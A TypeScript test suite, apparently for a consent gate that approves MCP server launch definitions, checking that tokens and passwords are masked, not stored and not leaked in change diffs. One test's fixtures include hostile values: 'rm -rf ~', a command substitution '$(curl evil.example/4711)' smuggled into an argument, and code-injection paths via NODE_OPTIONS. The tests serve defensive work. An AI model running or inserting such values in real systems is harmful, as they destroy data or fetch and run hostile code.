import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { silentLog } from '../../../../src/base/log.ts';
import { fingerprintOf } from '../../../../src/consent/fingerprint.ts';
import { ConsentGate } from '../../../../src/consent/consentGate.ts';
import { Ledger } from '../../../../src/consent/ledger.ts';
import type { Question } from '../../../../src/contract/questions/questions.ts';
import { prepareLaunch } from '../../../../src/definitions/prepareLaunch.ts';
import { prepareRemote } from '../../../../src/definitions/prepareRemote.ts';
import { readDefinitions } from '../../../../src/definitions/readDefinitions.ts';
import { remoteStartRequest, startRequest, type StartRequest } from '../../../../src/host/approval/startRequest.ts';
import { MemoryStorage } from '../support.ts';
import { createTemporaryFolder } from '../../../support/run/temporaryFolder.mjs';

const folder = createTemporaryFolder();
const token = 'ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5';
const key = 'random text of this installation';

async function requestOf(value: object, installation = key): Promise<StartRequest> {
  const [definition] = readDefinitions([{ scope: 'user', value: { it: value }, location: 'user settings' }]).definitions;
  assert.ok(definition);
  const context = { folders: [{ name: 'shop', path: folder }], userHome: folder, env: {} };
  return definition.kind === 'stdio'
    ? startRequest(
        await prepareLaunch(definition, { ...context, platform: 'linux', path: process.env['PATH'] ?? '', isPathFinal: true }),
        installation,
      )
    : remoteStartRequest(await prepareRemote(definition, context), installation);
}

const local = (changes: object): Promise<StartRequest> => requestOf({ command: process.execPath, ...changes });

async function shown(changes: object): Promise<readonly (readonly [string, string])[]> {
  const { detail } = await local(changes);
  return detail.fields.filter(({ name }) => /^(args|env)/.test(name)).map(({ name, value }) => [name, value]);
}

describe('A secret in a definition', () => {
  it('is neither shown nor remembered, in a variable, a header, an argument or an address', async () => {
    const requests = await Promise.all([
      local({ env: { API_KEY: token } }),
      local({ args: ['--token', token] }),
      local({ args: [`--api-key=${token}`, '-e', `GITHUB_TOKEN=${token}`] }),
      local({ args: ['mcp-remote', `https://api.example/?token=${token}&page=2`] }),
      requestOf({ url: `https://api.example/mcp?api_key=${token}&page=2`, headers: { Authorization: `Bearer ${token}` } }),
    ]);
    for (const { request, detail } of requests) {
      assert.ok(!JSON.stringify([request, detail]).includes(token));
      assert.ok(detail.fields.some(({ isHidden }) => isHidden === true));
      assert.ok(detail.serverId !== undefined);
    }
    const [, , , , remote] = requests;
    assert.equal(remote.detail.fields[0]?.value, 'https://api.example/mcp?api_key=•••&page=2');
  });

  it('asks again when it changes, and the difference tells neither the old nor the new one', async () => {
    const cases: readonly (readonly [object, object])[] = [
      [{ env: { API_KEY: token } }, { env: { API_KEY: `${token}2` } }],
      [{ args: ['--token', token] }, { args: ['--token', `${token}2`] }],
    ];
    for (const [before, after] of cases) {
      const [old, now] = await Promise.all([local(before), local(after)]);
      assert.notEqual(old.request.fingerprint, now.request.fingerprint);
      const differences = now.differencesFrom(old.request.material);
      assert.deepEqual(
        differences.map(({ isHidden, before: was, after: is }) => [isHidden, was, is]),
        [[true, undefined, undefined]],
      );
      assert.deepEqual(now.differencesFrom(now.request.material), []);
    }
  });

  it('cannot be tried out on what is remembered: another installation remembers the same one differently', async () => {
    await writeFile(path.join(folder, 'server.env'), 'PIN=4711\n');
    const value = { command: process.execPath, args: ['--token', token], env: { PASSWORD: 'summer2024' }, envFile: 'server.env' };
    const [here, there] = await Promise.all([requestOf(value), requestOf(value, 'random text of another one')]);
    assert.notEqual(here.request.fingerprint, there.request.fingerprint);
    const kept = JSON.stringify(here.request);
    const hashes = ['summer2024', token].flatMap((secret) => [fingerprintOf({ secret }), fingerprintOf({ default: secret })]);
    const ofFile = createHash('sha256').update('PIN=4711\n').digest('base64url');
    assert.deepEqual(
      [...hashes, ofFile].filter((hash) => kept.includes(hash)),
      [],
    );
  });

  it('is not shown as the old value where an earlier version has kept it in clear', async () => {
    const cases: readonly (readonly [object, object])[] = [
      [{ env: { API_KEY: token } }, { command: process.execPath, env: { API_KEY: `${token}2` } }],
      [{ args: ['--token', token] }, { command: process.execPath, args: ['--token', `${token}2`] }],
      [
        { url: 'https://a.example/', headers: { 'X-Api-Key': token } },
        { url: 'https://a.example/', headers: { 'X-Api-Key': 'n3w' } },
      ],
      [{ url: `https://a.example/?key=${token}` }, { url: `https://a.example/?key=${token}2` }],
    ];
    for (const [material, value] of cases) {
      const { request, detail, differencesFrom } = await requestOf(value);
      const asked: Question[] = [];
      const ledger = new Ledger({ storage: new MemoryStorage(), workspace: folder, now: () => new Date(0), log: silentLog });
      await ledger.remember({ ...request, fingerprint: 'of an earlier version', material: { ...material } }, 'allow', 'always');
      const gate = new ConsentGate(ledger);
      await gate.check({
        request,
        detail,
        differencesFrom,
        choices: ['deny'],
        ask: (question) => {
          asked.push(question);
          return Promise.resolve({ askId: question.askId, choice: 'deny' });
        },
        signal: new AbortController().signal,
      });
      gate.dispose();
      ledger.dispose();
      assert.equal(asked[0]?.why, 'changed');
      assert.ok(asked[0].differences.some(({ isHidden }) => isHidden === true));
      assert.ok(!JSON.stringify(asked).includes(token));
    }
  });

  it('hides no field of another name that reads the same', async () => {
    await writeFile(path.join(folder, 'content.env'), 'content=1\n');
    const { detail } = await local({ envFile: 'content.env' });
    const field = detail.fields.find(({ name }) => name === 'envFile.content');
    assert.deepEqual(field, { name: 'envFile.content', value: 'a value from the envFile', isDangerous: false });
  });

  it('is shown whole in a variable that can change what runs', async () => {
    const env = {
      GIT_CONFIG_KEY_0: 'core.sshCommand',
      NODE_OPTIONS: '--require=/tmp/token-4711-abcdef.js',
      PATH: process.env['PATH'] ?? '',
    };
    assert.deepEqual(
      await shown({ env }),
      Object.entries(env).map(([name, value]) => [`env.${name}`, value]),
    );
  });

  it('is no excuse to hide a command, a path or a package behind an option’s name', async () => {
    const args = ['--key', 'rm -rf ~', '--secret', '/tmp/evil-4711.js', '--token', 'evil-package', '--password=$(curl evil.example/4711)'];
    assert.deepEqual(
      await shown({ args }),
      args.map((value, index) => [`args[${index}]`, value]),
    );
  });

  it('is not seen in names of variables, numbers and places', async () => {
    const env = { API_KEY: '${env:MINE}', MAX_TOKENS: '8192', SSH_KEY_FILE: '/home/me/.ssh/id_ed25519' };
    assert.deepEqual(
      await shown({ env }),
      Object.entries(env).map(([name, value]) => [`env.${name}`, value]),
    );
  });
});
